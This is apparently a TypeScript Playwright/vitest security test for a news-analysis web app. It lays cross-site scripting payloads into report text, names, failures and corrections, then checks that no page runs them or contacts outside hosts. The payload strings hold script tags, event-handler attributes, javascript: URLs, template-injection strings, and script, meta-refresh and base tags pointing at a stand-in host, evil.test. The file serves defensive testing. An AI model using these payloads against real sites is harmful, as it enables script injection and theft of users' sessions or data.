/** Markup in every string that a report, a failure, a correction or an address can bring: no page lets any of it run. */

import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { updateCorpus } from '../../src/across/update.ts';
import { documentId } from '../../src/record/ids.ts';
import { Record as RecordSchema, type Record as NewsRecord } from '../../src/record/schema.ts';
import { origin } from '../store/reports.ts';
import { exampleRecord } from '../support/record.ts';
import { chromiumThere, settled, useApp } from './support.ts';

/** In three groups, for one that opens a comment or a text field could hide those that follow. */
const payloads = [
  `<script>window.owned=1</script><img src=x onerror=window.owned=2><svg/onload=window.owned=3><b onmouseover=window.owned=4>x</b>` +
    `<iframe srcdoc="<script>parent.owned=5</script>"></iframe><style>*{background:url(https://evil.test/6)}</style>`,
  `"'><img src=x onerror=window.owned=7>\` autofocus onfocus=window.owned=8 x="</title></textarea></style></script>` +
    `<script src=https://evil.test/9></script><base href=https://evil.test/><meta http-equiv=refresh content="0;url=https://evil.test/10">`,
  `{{constructor.constructor('window.owned=11')()}}\${window.owned=12}&lt;script&gt;window.owned=13&lt;/script&gt;` +
    `\\u003cscript\\u003ewindow.owned=14<math><mi xlink:href="javascript:window.owned=15">x</mi></math><!--<a href="javascript:window.owned=16">y</a><details open ontoggle=window.owned=17>`,
];

/** Words of the example into which a payload is laid: title, people, places, quotations, letters, days. */
const places = [
  'nvoy: Talks',
  'ari Fossdal',
  'oreign minister',
  'ima]',
  'e met',
  ' letter.',
  'uesday',
  'eter',
  'nvoy Kari',
];

/** The record made by hand with a payload inside its words; every span and id is where it is then. */
function laden(payload: string, url: string, outlet: string): NewsRecord {
  const plain = exampleRecord();
  const { text } = plain.document;
  const cuts = [...new Set(places.map((words) => text.indexOf(words)).filter((at) => at > 0))].sort((a, b) => a - b);
  const moved = (offset: number, isEnd: boolean): number =>
    offset + payload.length * cuts.filter((cut) => (isEnd ? cut < offset : cut <= offset)).length;
  const whole = [0, ...cuts].map((cut, i) => text.slice(cut, cuts[i])).join(payload);
  const move = (value: unknown): unknown => {
    if (typeof value === 'string')
      return value.replace(
        /^([a-z])(\d+)-(\d+)$/,
        (_, kind: string, start: string, end: string) =>
          `${kind}${moved(Number(start), false)}-${moved(Number(end), true)}`,
      );
    if (typeof value !== 'object' || value === null) return value;
    if (Array.isArray(value)) return value.map(move);
    const fields = Object.fromEntries(Object.entries(value).map(([name, field]) => [name, move(field)]));
    if (typeof fields['start'] !== 'number' || typeof fields['end'] !== 'number') return fields;
    const [start, end] = [moved(fields['start'], false), moved(fields['end'], true)];
    return { ...fields, start, end, ...('text' in fields && { text: whole.slice(start, end) }) };
  };
  const { document, ...rest } = move(plain) as NewsRecord;
  const { title, body, language, date } = document;
  const input = { text: whole, url, outlet, date, language, title, body };
  return RecordSchema.parse({
    ...rest,
    document: { ...document, ...input, id: documentId(input) },
    places: rest.places.map((place) => ({ ...place, name: payload })),
    events: rest.events.map((event) => ({ ...event, trace: { ...event.trace, rule: payload } })),
  });
}

/** Whatever ran or became markup. @param laid - Markup that is laid into the page before. */
async function harmOn(page: Page, laid: string | null = null): Promise<string[]> {
  const found = await page.evaluate((html) => {
    if (html !== null) document.querySelector('main')!.innerHTML = html;
    return {
      owned: (globalThis as { owned?: number }).owned ?? null,
      markup: [...document.querySelectorAll('*')]
        .filter(
          (element) =>
            element.matches('iframe, object, embed, base, math, meta[http-equiv], main script, main style, main img') ||
            [...element.attributes].some(
              ({ name, value }) => name.startsWith('on') || /^\s*(?:javascript|data:text|vbscript):/i.test(value),
            ),
        )
        .map((element) => element.outerHTML.slice(0, 200)),
    };
  }, laid);
  return [...(found.owned === null ? [] : [`ran: ${found.owned}`]), ...found.markup];
}

describe.skipIf(!chromiumThere)('markup of strangers', () => {
  const app = useApp();
  const ids: string[] = [];
  beforeAll(async () => {
    const { store } = app;
    for (const [i, payload] of payloads.entries())
      for (const copy of ['', ' It said no more.']) {
        const record = laden(`${payload}${copy}`, `javascript:window.owned=${20 + i}//${copy}`, payload);
        store.add({ origin: origin(`${payload}${copy}`, payload), record });
        ids.push(record.document.id);
      }
    for (const payload of payloads) {
      store.addFailure({ source: payload, key: payload, name: payload, reason: { code: payload, message: payload } });
      store.startJob({ kind: payload, what: payload, started: '2025-11-01T12:00:00Z' });
      const target = { document: ids[0]!, item: store.correctedRecord(ids[0]!)!.statements[0]!.id };
      store.correct({ action: { kind: 'reject', target }, who: payload, when: '2025-11-01T12:00:00Z', why: payload });
    }
    await updateCorpus(store);
  });

  const first = (sql: string): string => encodeURIComponent(String(app.store.query(sql).rows[0]![0]));
  const asked = encodeURIComponent(payloads[1]!);
  const pages: readonly (readonly [name: string, path: () => string])[] = [
    ['home', () => '/'],
    ...[0, 2, 4].map((i) => [`report ${i / 2 + 1}`, () => `/d/${ids[i]}`] as const),
    ['a report that is not there', () => `/d/${asked}`],
    ['an item', () => `/d/${ids[2]}?i=${app.store.record(ids[2]!)!.statements[1]!.id}`],
    ['statements', () => '/search?q=Tuesday'],
    ['events', () => '/search?in=events&outlet=' + encodeURIComponent(payloads[0]!)],
    ['reports', () => '/search?in=reports&q=Lima'],
    ['a search for markup', () => `/search?q=${asked}&speaker=${asked}&country=${asked}`],
    ['people', () => `/a?q=${encodeURIComponent('Fossdal')}`],
    ['a person', () => `/a/${first("SELECT id FROM actors WHERE label LIKE '%owned%'")}`],
    ['dyads', () => '/dyads'],
    ['a dyad', () => '/dyad/NOR/PER'],
    ['the map', () => '/map'],
    ['the network', () => '/network'],
    ['quotations', () => '/tracks'],
    ['a quotation', () => `/tracks/${first("SELECT id FROM tracks WHERE text LIKE '%owned%'")}`],
    ['stories', () => '/stories'],
    ['a story', () => `/stories/${first("SELECT id FROM stories WHERE title LIKE '%owned%'")}`],
    ['an outlet', () => `/outlets/${encodeURIComponent(payloads[0]!)}`],
    ['the corpus', () => '/corpus'],
    ['reading', () => `/read?text=${asked}&url=${asked}`],
  ];

  it.each(pages)(
    '%s',
    async (_, path) => {
      const page = await app.blank();
      const elsewhere: string[] = [];
      page.on('request', (request) => {
        if (!/^(?:blob|data):/.test(request.url()) && new URL(request.url()).origin !== app.origin)
          elsewhere.push(request.url());
      });
      page.on('dialog', (dialog) => {
        elsewhere.push(`dialog: ${dialog.message()}`);
        void dialog.dismiss();
      });
      await page.goto(app.origin + path());
      await settled(page);
      for (const summary of await page.locator('main summary').all()) await summary.click().catch(() => {});
      expect(await harmOn(page)).toEqual([]);
      expect(elsewhere).toEqual([]);
      // Nothing that the policy would have had to stop was even tried.
      expect(app.errors.filter((error) => /Security Policy|Refused/.test(error))).toEqual([]);
    },
    30_000,
  );

  // The last, for what it lays into a page does try to run.
  it('would be seen', async () => {
    for (const payload of payloads) {
      const page = await app.open('/corpus');
      expect((await harmOn(page, payload)).length).toBeGreaterThan(0);
    }
  });
});
